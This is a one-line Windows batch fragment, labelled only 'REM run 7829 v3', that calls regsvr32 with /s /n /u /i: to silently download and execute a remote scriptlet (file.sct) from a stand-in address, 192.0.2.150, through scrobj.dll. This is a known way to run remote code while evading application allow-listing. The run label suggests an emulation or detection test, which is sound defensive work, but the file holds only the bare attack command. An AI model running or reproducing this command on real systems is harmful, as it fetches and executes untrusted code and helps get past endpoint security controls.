REM run 7829 v3
regsvr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
